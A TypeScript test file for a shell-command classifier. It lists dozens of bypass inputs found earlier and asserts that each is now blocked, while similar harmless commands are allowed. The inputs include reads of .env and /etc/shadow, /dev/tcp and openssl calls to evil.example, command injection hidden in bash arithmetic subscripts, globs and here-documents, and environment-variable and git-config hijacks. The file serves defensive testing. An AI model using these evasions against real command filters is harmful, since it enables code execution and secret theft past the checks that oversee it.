import { describe, expect, it } from "vitest";
import { analyseShell, classifyCommand, riskyGitConfig } from "./index.ts";

// Holes found by reading the tables beside the programs, and bash beside our reading of it. Each was seen to do what is said.
const FOUND: Readonly<Record<string, readonly string[]>> = {
  "letters that a program does not bundle, texts that it does not glue": [
    "xxd -pc src.txt out.txt",
    "xxd -ac 1 out.txt",
    "xxd -prc a b",
    "tree -Lo 1 out",
    "tree -LR 1 -H .",
    "tree -PR x -L 1",
    'tree -L"$X" 1 out',
  ],
  "a text with one version, none with another: the next word is a file or the program": [
    "fmt -p .env",
    "more -n .env",
    "column -n .env",
    "sed -l p /root/d",
    "awk --assign 'x=system(\"touch pwned\")' 1 a",
    "awk --field-separator 'BEGIN{system(\"touch pwned\")}' 1 a",
    "yq x.yq",
    "git branch -l new",
    "git branch -lv new",
  ],
  "options behind those that seem to end them": [
    "jq -n --args '$x' --rawfile x .env",
    "jq -n --args '1' -f program",
    "jq -n --jsonargs '$x' --slurpfile x /etc/shadow",
    "jq -n --args '1' \"$X\"",
    "jq . a --args -L/x",
  ],
  "files that a file of the workspace names": [
    "objdump -S a.o",
    "objdump -dS a.o",
    "objdump --source a.o",
    "ar p thin.a",
    "ar pv thin.a member",
    "shellcheck -a x.sh",
    "iconv -f /root/table -t utf-8 a",
    "iconv -f utf-8 -t ./table a",
  ],
  "hosts that are asked for by their names": [
    "ss -tn dst evil.example",
    "ss 'dst evil.example'",
    'ss dst "$X"',
    "arp evil.example",
    "arp .",
    "arp -a evil.example",
    "cat < /dev/tcp/evil.example/http-alt",
    "cat < /dev/udp/evil.example/80/x",
  ],
  "environments of other processes": [
    "ps -eo pid,environ",
    "ps o pid,environ",
    "ps --format=environ",
    "docker top c eww",
  ],
  "a variable that the shell itself sets, evaluated": [
    ": 'a[$(touch pwned)]'; (( _ ))",
    "echo 'a[$(touch pwned)]'; echo $((_))",
    ": 'a[$(touch pwned)]'; echo ${x:_}",
    ": 'a[$(touch pwned)]'; x=(1 2); echo ${x[_]}",
    ": 'a[$(touch pwned)]'; x=([_]=1)",
    ": 'a[$(touch pwned)]'; for ((i=_; i<1; i++)); do :; done",
    "[[ 'a[$(touch pwned)]' =~ .* ]]; (( BASH_REMATCH ))",
    "[[ 'a[$(touch pwned)]' =~ .* ]]; x=abc; echo ${x:BASH_REMATCH}",
    "(( BASH_COMMAND ))",
    "(( BASH_EXECUTION_STRING ))",
  ],
  "a substitution in the set of a wildcard": [
    "echo [$(touch pwned)]",
    "echo a[^`touch pwned`]b",
    "ls *.[$(touch pwned)]",
    "x=[$(touch pwned)]",
    "cat <<< [$(touch pwned)]",
    "case [$(touch pwned)] in *) ;; esac",
    "case a in [$(touch pwned)]) ;; esac",
    "[[ a == [$(touch pwned)] ]]",
    "for i in [${y:-$(touch pwned)}]; do :; done",
    "echo ${PWD/[$(touch pwned)]/x}",
    "echo {a,[$(touch pwned)]}",
    "cat <<E\n${PWD:+[$(touch pwned)]}\nE",
    "echo [<(touch pwned)]",
  ],
  "subscripts of a redirection": [
    "x='a[$(touch pwned)]'; exec {y[x]}>/dev/null",
    "x='a[$(touch pwned)]'; : {y[\"x\"]}>/dev/null",
    "x='a[$(touch pwned)]'; ls {y[x+0]}<<<a",
    "x='a[$(touch pwned)]'; { :; } {y[x]}<a",
  ],
  "words that bash makes otherwise": [
    "cat $'\\x{2e}env'",
    "cat $'\\U110000'",
    "sed {,} 'w pwned' a",
    "awk {,} 'BEGIN{system(\"touch pwned\")}'",
    "cat {a,}~/notes",
  ],
  "quotes that are mere characters": [
    "cat <<E\n\"${PWD:+'$(touch pwned)'}\"\nE",
    "cat <<E\n${PWD:+'$(touch pwned)'}\nE",
    "cat <<-E\n\"${PWD#'`touch pwned`'}\"\nE",
  ],
  "hidden files for a wildcard": ["shopt -s dotglob; cat *", "shopt -qs dotglob; grep x *"],
  "a value that an assignment before it in the same command put there": [
    "x='a[$(touch pwned)]' y=$((x))",
    "x='a[$(touch pwned)]' y=$((x)) echo a",
    "x=1; x='a[$(touch pwned)]' y=$((x)); echo $y",
    "z=abc; x='a[$(touch pwned)]' y=${z:x}",
    "x='a[$(touch pwned)]' y=(1 [x]=2)",
    "x='a[$(touch pwned)]' <<< $((x))",
    "a=('b[$(touch pwned)]' [a]=2)",
    "declare -a a=([0]='b[$(touch pwned)]' [a]=2)",
  ],
  "a value that an assignment in front of a builtin left behind": [
    "x=1; x='a[$(touch pwned)]' export x; echo $((x))",
    "x='a[$(touch pwned)]' readonly x; echo $((x))",
  ],
  "a test or arithmetic of bash that is a command in another shell": [
    "sh -c '[[ a > pwned ]]'",
    "sh -c '((a > pwned))'",
    "dash -c '[[ a > pwned ]]'",
    "zsh -c '[[ -n a ]]'",
    "su -c '[[ a > pwned ]]'",
    "env -i bash -c '[[ -n a ]]'",
  ],
  "words that an older sh splits": [
    "sh -c 'y=\"a PATH=/workspace\"; export x=$y; ls'",
    "sh -c 'readonly x=`cat a`; ls'",
  ],
  "an index that is written back in spite of the options for locks": [
    "git describe --broken",
    "git describe --broken=-x",
  ],
  "variables that a program, or the script around it, looks at": [
    "export GREP=./evil; xzgrep x a.xz",
    "GREP=./evil; export GREP; bzgrep x a.bz2",
    "declare -x GREP=./evil; xzgrep x a.xz",
    "f() { local -x GREP=./evil; xzgrep x a.xz; }; f",
    "export RAR=-ilogpwned; unrar l a.rar",
    "export HTML_TIDY=./writes; tidy -e a.html",
    "ANT_HOME=./evil; ant -version",
    "export ANYTHING=./evil; ls",
  ],
  "-version where letters are bundled: psql connects, and obeys its input": [
    "psql -version",
    "echo '\\! touch pwned' | psql -version",
    "sed -version a",
  ],
  "addresses where a file is named": [
    "openssl x509 -in http://evil.example/x -noout -text",
    "openssl crl -in http://evil.example/x -noout -text",
    "openssl x509 -in file:/root/secret.pem -noout -text",
    "openssl pkey -pubin -in file:/root/secret.pem -noout -text",
  ],
  "here-documents that bash reads again, and then runs": [
    "((cat <<'E'\n$(touch pwned)\nE\n) )",
    "((cat <<\\E\n`touch pwned`\nE\n) )",
    '(({ cat <<"E"\ntouch pwned\nE\n} ) )',
    "echo $((cat <<'E'\n$(touch pwned)\nE\n) )",
    "f() ((cat <<'E'\n$(touch pwned)\nE\n) )\nf",
  ],
  "other programs than GNU's that write": ['for f in *.png; do base64 "$f"; done', 'for f in *; do base32 "$f"; done'],
};

describe("holes that were found in the tables stay closed", () => {
  it.each(Object.keys(FOUND))("G07 %s", (kind) => {
    expect(FOUND[kind]!.filter((command) => classifyCommand(command) === "allow")).toEqual([]);
  });

  it("G01 a similar harmless command goes through", () => {
    const open = [
      ...[
        "xxd -p a",
        "xxd -l 64 -c 8 a",
        "tree -L 2 -I node_modules",
        "tree -aL 2",
        "fmt -w 60 a",
        "grep --context=2 x a",
      ],
      ...[
        "jq -n --args '$ARGS' a b",
        "jq --arg x y . a",
        "objdump -d a.o",
        "ar t lib.a",
        "iconv -f utf-8 -t ascii//TRANSLIT a",
      ],
      ...[
        "ss -tlnp",
        "ss state established '( dport = :443 )'",
        "ss dst 10.0.0.1",
        "arp -a",
        "ps -eo pid,comm",
        "docker top c",
      ],
      ...[
        "(( COLUMNS > 80 ))",
        "(( BASH_VERSINFO >= 4 ))",
        "echo $(( RANDOM % 6 ))",
        "shopt -s nullglob; ls *.ts",
        "yq .a data.yml",
      ],
      ...[
        "ls *.[ch]",
        "cat {a,}b",
        "ls ''{,}",
        "cat $'a\\tb'",
        "echo ${PWD:+'a b'}",
        "sh -c 'export X=1; ls'",
        "git branch --list 'v*'",
        "git branch -l",
      ],
      ...[
        "export NODE_ENV=test LC_ALL=C; sort a",
        "NODE_ENV=test; export NODE_ENV; ls",
        "export x=1; ls",
        "ffmpeg -version",
        "psql --version",
        "openssl x509 -in a.pem -noout -enddate",
        "( (cat <<'E'\na\nE\n) )",
        "echo $((2 * (3 + 4)))",
      ],
    ];
    expect(open.filter((command) => classifyCommand(command) !== "allow")).toEqual([]);
  });

  it("G02 each read path is declared: by patterns of ugrep, -version of ripgrep, assignments that follow or stay", () => {
    const paths = (command: string) =>
      analyseShell(command, { cwd: "/workspace", home: "/home/user" }).effects.flatMap((one) =>
        one.do === "read" ? [one.path] : [],
      );
    expect(paths("ugrep -r --include=.env x")).toContain("/workspace/.env");
    expect(paths("ugrep -g '.env*' x")).toContain("/workspace/.env");
    expect(paths('x=a; x=/etc/hostname y=$x; cat "$y"')).toContain("/etc/hostname");
    for (const builtin of ["export x", "readonly x", "declare -x x", "command export x", "builtin export x"])
      expect(paths(`x=a; x=/etc/hostname ${builtin}; cat "$x"`)).toContain("/etc/hostname");
    for (const builtin of [":", "times", "unset y", "set --", "exec", "export y", "readonly y", "shift 0"])
      expect(paths(`sh -c 'x=a; x=/etc/hostname ${builtin}; cat "$x"'`)).toContain("/etc/hostname");
    expect(paths('f() { x=/etc/hostname local x; cat "$x"; }; x=a; f')).toContain("/etc/hostname");
    expect(paths("cd /root && rg -version")).toContain("/root");
  });

  it("G02 yq takes the name of a file for one, at every place", () => {
    const { effects } = analyseShell("yq -r /etc/secret.yml", { cwd: "/workspace", home: "/home/user" });
    expect(effects).toContainEqual(expect.objectContaining({ do: "read", path: "/etc/secret.yml" }));
  });

  it("G02 a comment in a configuration hides nothing, and an error message shows no secret file", () => {
    for (const config of [
      "# \\\n[diff] external = evil",
      "[a]\n\tb = c ; x\\\n[diff] external = evil",
      '[a]\n\tb = "c # d" # \\\n[diff] external = evil',
      '[a]\n\tb = "c \\\n # d" # \\\n[diff] external = evil',
      "[blame]\nignoreRevsFile = /root/secret",
      "[alias]\nwhatchanged = !evil",
    ])
      expect([config, riskyGitConfig(config).length]).toEqual([config, 1]);
    expect(riskyGitConfig('[a]\n\tb = "c # \\\n external = no"\n\tc = d\\\n\texternal = no')).toEqual([]);
  });
});
